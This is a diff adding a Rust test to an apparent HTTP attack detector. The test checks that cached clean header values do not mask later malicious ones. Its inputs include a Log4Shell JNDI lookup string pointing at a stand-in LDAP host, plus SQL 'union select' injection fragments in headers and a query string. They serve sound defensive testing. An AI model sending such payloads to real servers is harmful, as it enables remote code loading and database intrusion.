@@ -615,3 +615,41 @@ fn path_slash_runs_and_dot_segments_do_not_hide_a_probe() {
         get("/static/./app.js"),
     ]);
 }
+
+#[test]
+fn clean_header_memory_is_exact() {
+    // A fresh detector: the shared one's memory depends on the other tests.
+    let d = Detector::builtin().expect("builtin rules compile");
+    let ids =
+        |r: &Request| -> Vec<String> { d.inspect(r).into_iter().map(|x| x.rule_id).collect() };
+    let ua = "Mozilla/5.0 (X11; Linux x86_64) Firefox/120.0";
+    let benign = parse(&format!(
+        "GET /a HTTP/1.1\r\nHost: example.test\r\nUser-Agent: {ua}\r\nX-Note: 1 union select 2\r\n\r\n"
+    ));
+    // The note fires sqli.union; the UA is remembered clean, the note is not.
+    assert!(ids(&benign).contains(&"sqli.union".to_string()));
+    assert!(
+        ids(&benign).contains(&"sqli.union".to_string()),
+        "same request, same verdict"
+    );
+    // The remembered UA does not hide a malicious value under the same name.
+    let evil = parse(
+        "GET /a HTTP/1.1\r\nHost: example.test\r\nUser-Agent: ${jndi:ldap://x.example/a}\r\n\r\n",
+    );
+    assert!(ids(&evil).contains(&"java.log4shell.jndi".to_string()));
+
+    // A field passed over because its rule already fired on an earlier field (the query) must
+    // not be remembered as clean: alone, it still fires.
+    let both = parse(
+        "GET /q?id=1%20union%20select%202 HTTP/1.1\r\nHost: example.test\r\nX-Other: 3 union select 4\r\n\r\n",
+    );
+    let fired = d.inspect(&both);
+    assert_eq!(
+        fired.iter().filter(|x| x.rule_id == "sqli.union").count(),
+        1,
+        "a rule fires once per request: {fired:?}"
+    );
+    let header_only =
+        parse("GET /q HTTP/1.1\r\nHost: example.test\r\nX-Other: 3 union select 4\r\n\r\n");
+    assert!(ids(&header_only).contains(&"sqli.union".to_string()));
+}
